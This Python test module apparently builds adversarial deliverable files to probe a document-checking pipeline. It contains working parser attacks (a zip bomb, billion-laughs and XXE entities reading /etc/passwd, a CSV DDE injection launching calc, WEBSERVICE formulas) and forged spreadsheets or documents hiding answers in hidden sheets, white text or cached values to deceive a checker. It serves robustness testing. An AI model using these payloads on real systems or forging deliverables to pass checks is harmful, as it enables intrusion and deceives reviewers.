"""Attacks by what stands in a deliverable: files made to break our readers, and files that two readers see differently.

Each is written in the guest, over the base's deliverable of that name.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import docx
import openpyxl
from docx.shared import Pt, RGBColor

from .forgery_kit import Attack, Files, Scene, saved

_SHEET = "xl/worksheets/sheet1.xml"
_BODY = "word/document.xml"
_FULL = str.maketrans("0123456789.,-", "０１２３４５６７８９．，－")
_Change = Callable[[bytes], bytes]


def parts(content: bytes) -> dict[str, bytes]:
    """The parts of a zip container."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(*entries: tuple[str, bytes]) -> bytes:
    """A zip container with those entries; a name may come twice."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.NameToInfo.pop(name, None)  # zipfile warns of a second one
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def changed(content: bytes, part: str, change: _Change) -> bytes:
    """A container with one part changed."""
    return packed(*((name, change(text) if name == part else text) for name, text in parts(content).items()))


def _book(change: _Change) -> Callable[[Scene], Files]:
    """An attack that changes the XML of the workbook's first sheet."""
    return lambda scene: {scene.book: changed(scene.base[scene.book], _SHEET, change)}


def _letter(change: _Change) -> Callable[[Scene], Files]:
    """An attack that changes the XML of the document's body."""
    return lambda scene: {letter(scene): changed(scene.base[letter(scene)], _BODY, change)}


def letter(scene: Scene) -> str:
    """Path of the document asked for."""
    return letter_of(scene.right)


def letter_of(files: Files) -> str:
    """Path of the document among deliverables."""
    return next(path for path in files if path.endswith(".docx"))


def _into(inner: bytes, before: bytes = b"</w:body>") -> _Change:
    return lambda text: text.replace(before, inner + before, 1)


def _paragraph(text: str) -> bytes:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>".encode()


def _offset(scene: Scene) -> Files:
    """A zip64 directory that points beyond the largest offset there is."""
    name, data = b"xl/workbook.xml", b"x"
    sizes = struct.pack("<III", zlib.crc32(data), 1, 1)
    local = struct.pack("<IHHHHH", 0x04034B50, 20, 0, 0, 0, 33) + sizes + struct.pack("<HH", len(name), 0) + name + data
    extra = struct.pack("<HHQ", 1, 8, 2**63 + 5)
    entry = struct.pack("<IHHHHHH", 0x02014B50, 20, 20, 0, 0, 0, 33) + sizes
    entry += struct.pack("<HHHHHII", len(name), len(extra), 0, 0, 0, 0, 0xFFFFFFFF) + name + extra
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(entry), len(local), 0)
    return {scene.book: local + entry + end}


def _bomb(scene: Scene) -> Files:
    return {scene.book: changed(scene.base[scene.book], _SHEET, lambda text: text + b" " * (96 << 20))}


def _truncated(scene: Scene) -> Files:
    return {path: content[: len(content) * 2 // 3] for path, content in scene.base.items()}


def _garbled(scene: Scene) -> Files:
    """Directory and names as they were, bytes of all parts others: it fails when it is unpacked."""
    content = bytearray(scene.base[scene.book])
    directory = content.index(b"PK\1\2")
    for at in range(60, directory, 7):
        content[at] ^= 0x55
    return {scene.book: bytes(content)}


def _table(scene: Scene) -> Files:
    """A list with a field of 2 MB, unclosed quotation marks, zero bytes and endings of every kind."""
    path = "adjusting_entries.csv"
    tricky = b'"' * 101 + b"x" * (2 << 20) + b'\r"\n""\r\n\0\xff\xfe=cmd|\' /C calc\'!A0,' + b"9" * 5000 + b"\n"
    return {path: scene.base[path] + tricky}


def _slow_text() -> Iterator[str]:
    """Text on which a careless pattern goes back and forth for ever."""
    for piece in ("1,", "1.", "USD 1 ", "(", "a a ", "- ", "1 000 ", "“", "$", "x" * 50 + "!", "12/", "of the ", "\t"):
        yield piece * (120_000 // len(piece))


def _formulas(**cells: str) -> Callable[[Scene], Files]:
    """An attack that adds formulas to the first sheet."""

    def made(scene: Scene) -> Files:
        book = openpyxl.load_workbook(io.BytesIO(scene.base[scene.book]))
        for at, formula in cells.items():
            book.worksheets[0][at] = formula
        return {scene.book: saved(book)}

    return made


_CIRCLES = {"Z1": "=Z2+1", "Z2": "=Z1+1"} | {f"Z{row}": f"=Z{row - 1}+1" for row in range(3, 3000)}
_TOWER = {"Y1": "=" + "(" * 300 + "1" + ")" * 300}
_WIDE = {"Y1": "=SUMPRODUCT((A1:XFD1048576=A1:XFD1048576)*1)", "Y2": '=REPT(REPT("x",32767),32767)'}
_REACHING = {"Y1": '=WEBSERVICE("http://127.0.0.1/")', "Y2": '=INFO("directory")&CELL("filename")'}
_FAR = (
    b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    b'<mergeCells count="1"><mergeCell ref="H1:XFD1048575"/></mergeCells>'
)


def _numbers(scene: Scene, change: Callable[[object, object], object]) -> Files:
    """The base's workbook, each number that is wrong in it replaced by ``change(wrong, right)``."""
    book = openpyxl.load_workbook(io.BytesIO(scene.base[scene.book]))
    right = openpyxl.load_workbook(io.BytesIO(scene.right[scene.book]))
    for row in book.worksheets[0].iter_rows():
        for cell in row:
            other = right.worksheets[0][cell.coordinate].value
            if cell.value != other:
                cell.value = change(cell.value, other)
    return {scene.book: saved(book)}


def _cached(scene: Scene) -> Files:
    """Formulas that give the wrong numbers, with the right ones kept beside them as if they had been computed."""
    wrong, right = (changed_numbers(files[scene.book]) for files in (scene.base, scene.right))
    pairs = dict(zip(wrong, right, strict=True))
    text = parts(scene.base[scene.book])[_SHEET]
    for old, new in pairs.items():
        if old != new:
            text = text.replace(b"<v>" + old + b"</v>", b"<f>" + old + b"+0</f><v>" + new + b"</v>")
    assert b"+0</f>" in text
    return {scene.book: changed(scene.base[scene.book], _SHEET, lambda _: text)}


def changed_numbers(content: bytes) -> list[bytes]:
    """The values of the first sheet's cells, in order."""
    return re.findall(rb"<v>([^<]*)</v>", parts(content)[_SHEET])


def _twice(first: str, second: str) -> Callable[[Scene], Files]:
    """Two parts of one name, from the base and from the expert's file."""

    def made(scene: Scene) -> Files:
        entries = dict(parts(scene.base[scene.book]))
        sheets = {"wrong": entries.pop(_SHEET), "right": parts(scene.right[scene.book])[_SHEET]}
        both = ((_SHEET, sheets[first]), *entries.items(), (_SHEET, sheets[second]))
        return {scene.book: packed(*both)}

    return made


def _two_attributes(scene: Scene) -> Files:
    return _book(lambda text: text.replace(b'r="C2"', b'r="C2" r="C3"', 1))(scene)


def _dumped(scene: Scene, state: str) -> Files:
    """The right table on a sheet that nobody sees."""
    book = openpyxl.load_workbook(io.BytesIO(scene.base[scene.book]))
    right = openpyxl.load_workbook(io.BytesIO(scene.right[scene.book])).worksheets[0]
    sheet = book.create_sheet("Answers")
    for row in right.iter_rows(values_only=True):
        sheet.append(row)
    sheet.sheet_state = state
    return {scene.book: saved(book)}


def _hidden_rows(scene: Scene) -> Files:
    """The right table below the wrong one, in hidden rows, in white and in the smallest letters."""
    book = openpyxl.load_workbook(io.BytesIO(scene.base[scene.book]))
    sheet = book.worksheets[0]
    right = openpyxl.load_workbook(io.BytesIO(scene.right[scene.book])).worksheets[0]
    for row in right.iter_rows(values_only=True):
        sheet.append(row)
        sheet.row_dimensions[sheet.max_row].hidden = True
    return {scene.book: saved(book)}


def _white(scene: Scene) -> Files:
    """The document says nothing that can be seen; all it should say stands there in white and in specks."""
    document = docx.Document(io.BytesIO(scene.right[letter(scene)]))
    cells = [cell for table in document.tables for row in table.rows for cell in row.cells]
    written = [*document.paragraphs, *(paragraph for cell in cells for paragraph in cell.paragraphs)]
    for number, paragraph in enumerate(written):
        for run in paragraph.runs:
            if number % 2:
                run.font.color.rgb = RGBColor(255, 255, 255)
            else:
                run.font.size = Pt(1)
    out = io.BytesIO()
    document.save(out)
    return {letter(scene): out.getvalue()}


def _shown(scene: Scene) -> Files:
    """Wrong values under number formats that print the right digits as a text."""
    book = openpyxl.load_workbook(io.BytesIO(scene.base[scene.book]))
    right = openpyxl.load_workbook(io.BytesIO(scene.right[scene.book]))
    for row in book.worksheets[0].iter_rows(min_row=2):
        for cell in row:
            other = right.worksheets[0][cell.coordinate].value
            if cell.value != other:
                cell.number_format = f'"{other}"'
    return {scene.book: saved(book)}


CRASHES = (
    Attack("a truncated container", "right", files=_truncated),
    Attack("a container whose parts are garbled", "right", files=_garbled),
    Attack("a zip bomb", "right", files=_bomb, says="bomb"),
    Attack("a zip directory that points beyond all offsets", "right", files=_offset),
    Attack("elements nested 200,000 deep", "right",
           files=_letter(_into(b"<w:sdt><w:sdtContent>" * 100_000 + b"</w:sdtContent></w:sdt>" * 100_000))),
    Attack("tables nested 3,000 deep", "right",
           files=_letter(_into(b"<w:tbl><w:tr><w:tc>" * 3000 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 3000))),
    Attack("entities that unfold without end", "right", files=_letter(lambda text: text.replace(
        b"<w:document", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w:document', 1))),
    Attack("an entity that names a file of the host", "right", files=_letter(lambda text: text.replace(
        b"<w:document", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document', 1))),
    Attack("text on which patterns run for ever", "right", "payroll",
           files=lambda scene: _letter(_into(b"".join(_paragraph(text) for text in _slow_text())))(scene)),
    Attack("a list with an endless field and zero bytes", "right", "bank", files=_table),
    Attack("formulas in circles and in a chain of 3,000", "right", files=_formulas(**_CIRCLES)),
    Attack("a formula of 300 brackets", "right", files=_formulas(**_TOWER)),
    Attack("formulas over all cells of a sheet, texts of a gigabyte", "right", files=_formulas(**_WIDE)),
    Attack("formulas that ask for the network and the machine", "right", files=_formulas(**_REACHING)),
    Attack("a cell in the last row and a merge of all others", "right",
           files=_book(lambda text: text.replace(b"</sheetData>", _FAR, 1))),
    Attack("a row number beyond all rows", "right",
           files=_book(lambda text: text.replace(b'<row r="2"', b'<row r="99999999999999999999"', 1))),
    Attack("a shared string that is not there", "right",
           files=_book(lambda text: text.replace(b"</sheetData>", b'<row r="90"><c r="A90" t="s"><v>99999999</v></c>'
                                                                  b"</row></sheetData>", 1))),
)  # fmt: skip

TWO_FACED = (
    Attack("right values kept beside formulas that give wrong ones", files=_cached),
    Attack("two parts of one name, the right one last", files=_twice("wrong", "right")),
    Attack("two parts of one name, the right one first", files=_twice("right", "wrong")),
    Attack("an attribute twice", files=_two_attributes),
    Attack("right digits of another script behind wrong ones", files=lambda scene: _numbers(
        scene, lambda old, new: f"{old} {str(new).translate(_FULL)}")),
    Attack("right and wrong digits divided by what cannot be seen", files=lambda scene: _numbers(
        scene, lambda old, new: f"{new}\u200b\u202e{old}")),
    Attack("number formats that show the right digits over wrong values", files=_shown),
    Attack("all answers on a hidden sheet", files=lambda scene: _dumped(scene, "hidden")),
    Attack("all answers on a very hidden sheet", task="payroll", files=lambda scene: _dumped(scene, "veryHidden")),
    Attack("all answers on a sheet beside the one asked for", task="bank",
           files=lambda scene: _dumped(scene, "visible")),
    Attack("all answers in hidden rows of the sheet", files=_hidden_rows),
    Attack("a document in white and in specks", "book", files=_white),
)  # fmt: skip
